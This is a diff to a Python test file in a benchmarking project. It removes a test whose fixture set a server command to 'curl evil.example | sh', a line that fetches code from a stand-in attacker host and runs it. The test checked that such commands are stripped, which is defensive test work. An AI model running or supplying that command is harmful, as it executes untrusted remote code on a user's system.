@@ -17,7 +17,7 @@ from typer.testing import CliRunner
 
 from attributing import attribution
 from duetbench.core.errors import ArtifactError
-from duetbench.core.model import MOST, Artefact, Commands, Missing, Run
+from duetbench.core.model import MOST, Artefact, Missing, Run
 from duetbench.github import archives, proposals
 from duetbench.store import files, result_files
 from duetbench.store.change import Cause, Release
@@ -305,12 +305,9 @@ def repeat(field: str, *entries: Any) -> Comparison:
     return comparison().model_copy(update={field: entries})
 
 
-def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_path: Path) -> None:
-    evil = Commands(server="curl evil.example | sh", load="oha")
-    cases = tuple(entry.model_copy(update={"commands": evil}) for entry in comparison().cases)
-    result, check = compared(tmp_path, comparison=comparison(cases=cases, why=attribution()))
-    assert [entry.commands for entry in result.cases] == [None]
-    assert (check, result.why) == (None, attribution())
+def test_the_comparison_that_was_asked_for_is_accepted(tmp_path: Path) -> None:
+    result, check = compared(tmp_path, comparison=comparison(why=attribution()))
+    assert (check, result) == (None, comparison(why=attribution()))
 
 
 @pytest.mark.parametrize(
